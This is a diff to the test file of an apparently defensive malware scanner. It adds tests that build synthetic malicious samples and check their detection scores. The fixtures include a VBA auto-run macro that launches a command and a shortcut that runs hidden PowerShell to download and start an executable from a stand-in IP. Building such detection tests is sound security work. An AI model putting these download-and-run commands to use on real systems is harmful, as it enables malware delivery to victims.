@@ -4,7 +4,16 @@ import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { analysisSchema, reportSchema } from "@fumehood/contract";
 import { createInspector, type Inspector, isUnpackable, unpackArchive } from "@fumehood/inspect";
-import { buildElf, buildPdf, buildPe, buildZip, eicar, noise } from "@fumehood/inspect/testing";
+import {
+  buildElf,
+  buildLnk,
+  buildOleWithVba,
+  buildPdf,
+  buildPe,
+  buildZip,
+  eicar,
+  noise,
+} from "@fumehood/inspect/testing";
 import { buildReport } from "@fumehood/report";
 import { afterAll, beforeAll, expect, test } from "vitest";
 import { createArchiveOpener } from "./archive-opener.ts";
@@ -202,6 +211,53 @@ test("PowerShell that downloads and runs hidden code out of an encoded command i
   expect(result.analysis["static"]).toMatchObject({
     strings: expect.arrayContaining([{ value: "http://198.51.100.7/a.ps1", offset: 0, encoding: "decoded" }]),
   });
+});
+
+test("a document whose macro starts a command by itself is malicious", async () => {
+  const code = 'Sub AutoOpen()\r\n  CreateObject("WScript.Shell").Run "cmd /c calc"\r\nEnd Sub\r\n';
+  const result = await analyse("invoice.doc", buildOleWithVba({ modules: { NewMacros: code } }));
+  expect(scores(result)).toMatchInlineSnapshot(`
+    [
+      "macro-runs-command: 85",
+      "macro-auto-execution: 40",
+      "macro-execution: 38",
+      "document-macro: 20",
+      "script-execution: 5",
+    ]
+  `);
+  expect(result.extracted.map(({ name, type }) => ({ name, type }))).toMatchInlineSnapshot(`
+    [
+      {
+        "name": "Macros/VBA/NewMacros.vba",
+        "type": "vba",
+      },
+    ]
+  `);
+  expect(result.threatScore).toBeGreaterThanOrEqual(85);
+});
+
+test("a shortcut that downloads behind a hidden window is malicious", async () => {
+  const lnk = buildLnk({
+    localPath: "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
+    arguments: "-w hidden -c iwr http://198.51.100.7/a.exe -o $env:TEMP\\a.exe; start $env:TEMP\\a.exe",
+  });
+  const result = await analyse("invoice.pdf.lnk", lnk);
+  expect(scores(result)).toMatchInlineSnapshot(`
+    [
+      "lnk-hidden-downloader: 85",
+      "lnk-remote-command: 76",
+      "name-double-extension: 59",
+      "lnk-hidden-window: 48",
+      "lnk-starts-interpreter: 42",
+    ]
+  `);
+});
+
+test("a document that starts a program is suspicious, one with text is clean", async () => {
+  const launching = await analyse("a.pdf", buildPdf({ launch: "calc.exe" }));
+  expect(scores(launching)).toContain("pdf-launch: 72");
+  const plain = await analyse("b.pdf", buildPdf({ uris: ["https://www.example.com/"] }));
+  expect(scores(plain)).toEqual([]);
 });
 
 test("an ordinary program of Linux is clean", async () => {
